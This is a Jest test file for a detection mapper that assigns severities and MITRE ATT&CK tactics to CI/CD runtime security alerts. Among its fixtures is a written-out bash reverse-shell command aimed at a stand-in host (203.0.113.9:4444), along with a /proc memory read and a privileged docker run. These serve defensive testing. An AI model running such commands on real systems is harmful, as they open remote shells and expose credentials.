import { describe, expect, it, test } from '@jest/globals';
import type { JsonObject } from '../../src/contracts/types.ts';
import { threatOf } from '../../src/detections/attack.ts';
import { attackName } from '../../src/detections/attack-names.ts';
import type { Detection } from '../../src/detections/detection.ts';
import { atLeast, grade, SEVERITIES } from '../../src/detections/severity.ts';
import { loadMappings } from '../../src/mapping/load.ts';
import { profilesOf } from '../../src/mapping/profiles.ts';
import { payloadOf, profile, read } from './harness.ts';

const shipped = profilesOf(loadMappings());
const readShipped = (payload: JsonObject, severity = {}): Detection =>
  read(payload, { ...shipped, severity });
const attack = ({ threat }: Detection): string[] => [...(threat?.tactic.id ?? []), ...(threat?.ids ?? [])];

/** Severity and ATT&CK of each kind, with the mappings that ship. */
describe('the defaults of each kind', () => {
  test.each<[string, string, string[]]>([
    ['Reverse-Shell', 'critical', ['TA0002', 'T1059.004']],
    ['Runner-Worker-Memory-Read', 'critical', ['TA0006', 'T1003.007']],
    ['Compromised-Actions-Policy-Blocked', 'high', ['TA0001', 'T1195.001']],
    ['Action-Uses-Imposter-Commit', 'high', ['TA0001', 'T1195.001']],
    ['Privileged-Container', 'high', ['TA0004', 'T1611']],
    ['Secret-In-Build-Log', 'high', ['TA0006', 'T1552']],
    ['New-Outbound-Network-Call', 'medium', ['TA0011', 'T1071']],
    ['HTTPS-Outbound-Network-Call', 'medium', ['TA0011', 'T1071.001']],
    ['Domain-Blocked', 'medium', ['TA0011', 'T1071']],
    ['Source-Code-Overwritten', 'medium', ['TA0001', 'T1195.002']],
    ['Secrets-Policy-Blocked', 'medium', ['TA0002', 'T1677']],
    ['Actions-Policy-Blocked', 'medium', []],
    ['Action-Uses-Commit-From-Non-Default-Branch', 'low', ['TA0001', 'T1195.001']],
    ['Runs-On-Policy-Blocked', 'low', []],
  ])('%s is %s', (kind, word, ids) => {
    const detection = readShipped(payloadOf(kind));
    expect(detection.severity.word).toBe(word);
    expect(attack(detection)).toEqual(ids);
  });

  it('name only known tactics and techniques', () => {
    for (const kind of [
      'Reverse-Shell',
      'Agent-Tampered',
      'Suspicious-Network-Call',
      'Suspicious-Process-Call',
    ]) {
      for (const { tactic, technique } of shipped.profile(kind)?.threat ?? []) {
        expect(attackName(tactic)).toBeDefined();
        if (technique !== undefined) expect(attackName(technique)).toBeDefined();
      }
    }
  });
});

test('the numbers are the ones that Elastic’s rules match', () => {
  expect(SEVERITIES.map((word) => grade(word).number)).toEqual([0, 21, 47, 73, 99]);
  expect(atLeast('high', 'high')).toBe(true);
  expect(atLeast('medium', 'high')).toBe(false);
  expect(atLeast('critical', 'informational')).toBe(true);
});

describe('a severity changed by the payload', () => {
  test.each<[string, JsonObject, string]>([
    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: false } }, 'medium'],
    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: 'false' } }, 'medium'],
    ['Action-Uses-Imposter-Commit', { imposter_commit: { is_imposter_commit: true } }, 'high'],
    ['Action-Uses-Imposter-Commit', { is_imposter_commit: false }, 'medium'],
    ['Action-Uses-Imposter-Commit', { imposter_commit: null, is_imposter_commit: 'false' }, 'medium'],
    ['Action-Uses-Imposter-Commit', { imposter_commit: null }, 'high'],
    ['Action-Uses-Imposter-Commit', { imposter_commit: 'x' }, 'high'],
    [
      'Secrets-Policy-Blocked',
      {
        workflow_contains_secrets: 'true',
        is_non_default_branch: 'true',
        workflow_matches_default_ref: 'false',
      },
      'high',
    ],
    [
      'Secrets-Policy-Blocked',
      { workflow_contains_secrets: true, is_non_default_branch: true, workflow_matches_default_ref: true },
      'medium',
    ],
    ['Secrets-Policy-Blocked', { workflow_contains_secrets: true, is_non_default_branch: true }, 'medium'],
    ['Threat-Intelligence', { severity: 'CRITICAL' }, 'critical'],
    ['Threat-Intelligence', { severity: 'info' }, 'informational'],
    ['pr_check_failure', { severity: 'high' }, 'high'],
    // The kind itself says that it was stopped, and its default accounts for that.
    ['Domain-Blocked', { is_lockdown: true }, 'medium'],
    ['Reverse-Shell', { is_lockdown: true }, 'high'],
    ['Reverse-Shell', { is_lockdown: 'true' }, 'high'],
    ['Reverse-Shell', { is_lockdown: false }, 'critical'],
    [
      'Runner-Worker-Memory-Read',
      { process_events: [{ pid: 1 }, { armour_event_process: { enforced_protection: true } }] },
      'high',
    ],
    ['Action-Uses-Commit-From-Non-Default-Branch', { is_lockdown: true }, 'low'],
  ])('%s with %j is %s', (kind, fields, word) => {
    expect(readShipped(payloadOf(kind, fields)).severity.word).toBe(word);
  });

  it('never raises an informational detection because it was stopped', () => {
    const quiet = profile('Quiet', { severity: 'informational' });
    const detection = read(payloadOf('Quiet', { is_lockdown: true }), { profile: () => quiet });
    expect(detection.severity).toEqual({ word: 'informational', number: 0 });
  });

  it('yields to the operator, who may name unknown kinds', () => {
    const severity = { 'Reverse-Shell': 'low', 'Brand-New': 'critical' } as const;
    expect(readShipped(payloadOf('Reverse-Shell', { is_lockdown: true }), severity).severity.word).toBe(
      'low',
    );
    expect(readShipped(payloadOf('Brand-New'), severity).severity.word).toBe('critical');
    expect(readShipped(payloadOf('Other-New'), { _unknown: 'high' }).severity.word).toBe('high');
  });
});

describe('a detection that was stopped', () => {
  const lockdown = read(payloadOf('Reverse-Shell', { is_lockdown: true }), {
    profile: () => profile('Reverse-Shell', { type: ['start'] }),
  });
  it('is denied, blocked and a success of the defense', () => {
    expect(lockdown.event).toMatchObject({ type: ['start', 'denied'], outcome: 'success' });
    expect([lockdown.action, lockdown.lockdown]).toEqual(['blocked', true]);
  });
  it('differs from one that was only seen', () => {
    const seen = read(payloadOf('Reverse-Shell'));
    expect([seen.action, seen.event.outcome, seen.event.type]).toEqual([
      'allowed',
      undefined,
      ['info', 'allowed'],
    ]);
  });
});

test.each<[string, string[]]>([
  ['Suspicious-Process-Call', ['intrusion_detection', 'process']],
  ['Reverse-Shell', ['intrusion_detection', 'network', 'process']],
  ['Secret-In-Build-Log', ['intrusion_detection']],
])('%s with a far end also belongs to the network category if a process connects', (kind, category) => {
  expect(readShipped(payloadOf(kind)).event.category).toEqual(category);
  const connected = readShipped(payloadOf(kind, { endpoint: 'a.example:443' })).event.category;
  expect(connected.toSorted()).toEqual(
    [...new Set([...category, ...(category.includes('process') ? ['network'] : [])])].sort(),
  );
});

const MEMORY_READ = {
  exe: '/usr/bin/python3',
  armour_event_process: { file_info: { target_file: '/proc/1798/mem', target_pid: 1798 } },
};

describe('ATT&CK by payload', () => {
  const shell = { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] };
  test.each<[string, JsonObject, string[]]>([
    ['Reverse-Shell', { process_events: [shell] }, ['TA0002', 'TA0011', 'T1059.004', 'T1095']],
    ['Secret-In-Build-Log', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
    ['Secret-In-Artifact', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
    ['Suspicious-Process-Call', { process_events: [{ exe: '/usr/bin/make', arguments: ['make'] }] }, []],
    ['Suspicious-Process-Events', { process_events: [MEMORY_READ] }, ['TA0006', 'T1003.007']],
    [
      'Suspicious-Process-Events',
      {
        process_events: [{ exe: '/usr/bin/docker', arguments: ['docker', 'run', '--privileged', 'alpine'] }],
      },
      ['TA0004', 'T1611'],
    ],
    [
      'Suspicious-Process-Events',
      { process_events: [{ exe: '/usr/bin/docker', arguments: ['docker', 'run', 'alpine'] }] },
      [],
    ],
  ])('%s with %j', (kind, fields, ids) => {
    expect(attack(readShipped(payloadOf(kind, fields)))).toEqual(ids);
  });

  it('lists parents next to sub-techniques', () => {
    const threat = threatOf([{ tactic: 'TA0006', technique: 'T1003.007' }]);
    expect(threat?.technique).toEqual({
      id: ['T1003'],
      name: ['OS Credential Dumping'],
      subtechnique: {
        id: ['T1003.007'],
        name: ['Proc Filesystem'],
      },
    });
    expect(threatOf([{ tactic: 'TA0002' }])).not.toHaveProperty('technique');
    expect(threatOf([])).toBeUndefined();
  });
});
